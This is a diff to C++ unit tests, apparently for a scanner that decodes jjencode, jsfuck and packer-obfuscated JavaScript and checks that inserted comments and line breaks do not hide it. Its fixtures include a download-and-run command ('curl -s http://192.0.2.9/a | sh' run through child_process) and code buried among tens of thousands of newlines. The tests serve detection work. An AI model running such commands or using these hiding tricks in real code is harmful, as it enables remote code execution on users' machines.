@@ -95,7 +95,8 @@ TEST(Jjencode, IsRead) {
             "require('child_process').exec('curl -s http://192.0.2.9/a | sh')");
   EXPECT_EQ(DecodeJjencode("$=~[];$={___:++$}"), std::nullopt);
   EXPECT_EQ(DecodeJjencode(std::string(limits::kLayerBytes + 1, ' ')), std::nullopt);
-  for (std::size_t end = 0; end < kJjencode.size(); ++end)
+  // The last semicolon is nobody's.
+  for (std::size_t end = 0; end + 1 < kJjencode.size(); ++end)
     EXPECT_EQ(DecodeJjencode(kJjencode.substr(0, end)), std::nullopt);
 }
 
@@ -111,6 +112,38 @@ TEST(Obfuscators, TheirProgramsAreFollowed) {
   const std::string among = std::string(30'000, '\n') + "let a = 1;" + std::string(kFetch) + ";" +
                             std::string(90'000, '\n') + "module.exports = a;";
   EXPECT_NE(facts(among).find("tool=jsfuck"), std::string::npos);
+}
+
+/// A comment and a line end behind every sign that no text holds.
+std::string Commented(std::string_view code) {
+  std::string text;
+  bool quoted = false;
+  for (std::size_t i = 0; i < code.size(); ++i) {
+    text += code[i];
+    if (quoted && code[i] == '\\') {
+      text += code[++i];
+      continue;
+    }
+    if (code[i] == '"') quoted = !quoted;
+    if (!quoted && std::string_view("[](,{").find(code[i]) != std::string_view::npos)
+      text += " /* see\nthe notes */ ";
+  }
+  return text;
+}
+
+TEST(Obfuscators, CommentsAndLineEndsHideNothing) {
+  const auto facts = [](std::string_view code) {
+    return Lines(Only(ExtractFrom({{"index.js", code}}), "code."));
+  };
+  const std::string fuck = Commented(kFetch);
+  EXPECT_NE(facts(fuck).find("tool=jsfuck => fetch(1)"), std::string::npos) << facts(fuck);
+  const std::string jj = Commented(kJjencode);
+  EXPECT_NE(facts(jj).find("tool=jjencode"), std::string::npos) << facts(jj);
+  EXPECT_NE(facts(jj).find("command=curl -s http://192.0.2.9/a | sh"), std::string::npos);
+  const std::string packed =
+      "eval(/* a */function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b'"
+      ",'g'),k[c]);return p}('0(1)',2,2,'fetch|1'.split('|'),0,{}))";
+  EXPECT_NE(facts(packed).find("tool=packer"), std::string::npos) << facts(packed);
 }
 
 }  // namespace
